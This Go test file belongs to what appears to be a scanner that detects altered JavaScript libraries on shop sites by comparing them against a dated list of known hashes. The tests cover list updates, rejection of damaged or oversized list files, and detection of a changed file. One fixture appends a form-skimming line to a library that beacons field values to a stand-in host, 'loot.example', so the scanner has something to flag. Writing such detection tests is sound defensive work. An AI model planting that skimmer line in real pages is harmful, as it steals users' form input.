package app

import (
	"crypto/sha256"
	"errors"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tillwatch/tillwatch"
	"github.com/tillwatch/tillwatch/known"
	"github.com/tillwatch/tillwatch/script"
)

// ownLibrary is a library of our own, which no list but that of these tests knows.
func ownLibrary() string {
	var b strings.Builder
	b.WriteString("/*! lantern v1.0 */\n(function (root) {\n")
	for i := range 40 {
		fmt.Fprintf(&b, "  root.glow%d = function (a) { return a.lamps * %d + a.oil; };\n", i, i)
	}
	return b.String() + "})(window.lantern = {});\n"
}

// listOf makes a data file of that day with our own library on it.
func listOf(t *testing.T, day string) string {
	t.Helper()
	text := ownLibrary()
	code := known.Trim([]byte(text))
	sum := sha256.Sum256([]byte(text))
	statements := map[string]bool{}
	for _, s := range script.Statements([]byte(text)) {
		statements[fmt.Sprintf("%016x\tlantern\t1.0\n", s.Hash)] = true
	}
	file, err := known.Encode(known.Sources{
		Libraries:  strings.NewReader(fmt.Sprintf("#tillwatch-libraries\t1\n#date\t%s\nlantern\t1.0\tdist/lantern.js\t%x\t%x\t%d\n", day, sum, sum, len(text))),
		Trimmed:    strings.NewReader(fmt.Sprintf("#tillwatch-trimmed\t1\n%x\t%x\t%d\n", sum, sha256.Sum256(code), len(code))),
		Statements: strings.NewReader("#tillwatch-statements\t1\n#date\t" + day + "\n" + strings.Join(slices.Sorted(maps.Keys(statements)), "")),
		Releases:   strings.NewReader("#tillwatch-release-files\t1\n#date\t" + day + "\n"),
	})
	if err != nil {
		t.Fatal(err)
	}
	name := filepath.Join(t.TempDir(), "list-of-"+day+".bin")
	if err := os.WriteFile(name, file, 0o600); err != nil {
		t.Fatal(err)
	}
	return name
}

func dayAfter(t *testing.T, day string, n int) string {
	t.Helper()
	at, err := time.Parse(time.DateOnly, day)
	if err != nil {
		t.Fatal(err)
	}
	return at.AddDate(0, 0, n).Format(time.DateOnly)
}

func TestANewerListReplacesTheProgramsOwn(t *testing.T) {
	t.Parallel()
	dir := filepath.Join(t.TempDir(), "state")
	own := known.Embedded().Date()
	newer, newest, older := dayAfter(t, own, 1), dayAfter(t, own, 2), dayAfter(t, own, -1)
	for _, step := range []struct {
		name, file string
		changed    bool
		refused    string
		now        string // what is used afterwards
	}{
		{"older", listOf(t, older), false, "what is used is newer", own},
		{"of the same day", listOf(t, own), false, "", own},
		{"newer", listOf(t, newer), true, "", newer},
		{"again", listOf(t, newer), false, "", newer},
		{"newest", listOf(t, newest), true, "", newest},
		{"back", listOf(t, newer), false, "what is used is newer", newest},
	} {
		set, changed, err := UpdateData(dir, step.file)
		if _, usage := IsUsage(err); (step.refused != "") != (err != nil) || err != nil && (!usage || !strings.Contains(err.Error(), step.refused)) {
			t.Errorf("%s: %v", step.name, err)
		}
		if changed != step.changed || err == nil && set.Date != step.now {
			t.Errorf("%s: changed %v, %+v", step.name, changed, set)
		}
		list, err := Data(dir)
		if err != nil || list[0].Date != step.now || (list[0].File != "") != (step.now != own) {
			t.Errorf("%s: then %+v, %v", step.name, list, err)
		}
	}
	entries, err := os.ReadDir(dir)
	if err != nil || len(entries) != 1 {
		t.Errorf("left behind: %v, %v", entries, err)
	}
}

func TestADamagedListIsRefusedAndReplaced(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	day := dayAfter(t, known.Embedded().Date(), 1)
	good := listOf(t, day)
	file, err := os.ReadFile(good)
	if err != nil {
		t.Fatal(err)
	}
	cut := filepath.Join(t.TempDir(), "cut.bin")
	if err := os.WriteFile(cut, file[:len(file)-1], 0o600); err != nil {
		t.Fatal(err)
	}
	if _, _, err := UpdateData(dir, cut); err == nil || !strings.Contains(err.Error(), "damaged or cut short") {
		t.Errorf("cut short: %v", err)
	}
	huge := filepath.Join(t.TempDir(), "huge.bin")
	if err := errors.Join(os.WriteFile(huge, nil, 0o600), os.Truncate(huge, maxData+1)); err != nil {
		t.Fatal(err)
	}
	if _, _, err := UpdateData(dir, huge); err == nil || !strings.Contains(err.Error(), "larger than 30 MB") {
		t.Errorf("huge: %v", err)
	}
	if err := os.WriteFile(filepath.Join(dir, publishedName), file[:100], 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := Data(dir); err == nil {
		t.Error("a damaged list is used")
	}
	if set, changed, err := UpdateData(dir, good); err != nil || !changed || set.Date != day {
		t.Errorf("mended: %+v, %v, %v", set, changed, err)
	}
}

func TestTheListThatIsInstalledDecides(t *testing.T) {
	t.Parallel()
	state, shop := t.TempDir(), t.TempDir()
	changed := ownLibrary() + "document.addEventListener('change', function (e) { navigator.sendBeacon('https://loot.example/', e.target.value); });\n"
	if err := os.WriteFile(filepath.Join(shop, "lantern.js"), []byte(changed), 0o600); err != nil {
		t.Fatal(err)
	}
	told := func() []string {
		r, err := Check(t.Context(), CheckConfig{Targets: []string{shop}, Language: "en", StateDir: state})
		if err != nil {
			t.Fatal(err)
		}
		if len(r.NotSeen) > 0 || len(r.Items) != 1 || !strings.HasPrefix(r.Items[0].Place, shop) {
			t.Errorf("not seen %+v, items %+v", r.NotSeen, r.Items)
		}
		var rules []string
		for _, f := range r.Findings {
			if f.Severity >= tillwatch.High {
				rules = append(rules, f.Rule)
			}
		}
		return rules
	}
	if rules := told(); slices.Contains(rules, "files/changed") {
		t.Errorf("before: %q", rules)
	}
	if _, _, err := UpdateData(state, listOf(t, dayAfter(t, known.Embedded().Date(), 1))); err != nil {
		t.Fatal(err)
	}
	if rules := told(); !slices.Contains(rules, "files/changed") {
		t.Errorf("what is remembered outlives the list: %q", rules)
	}
}
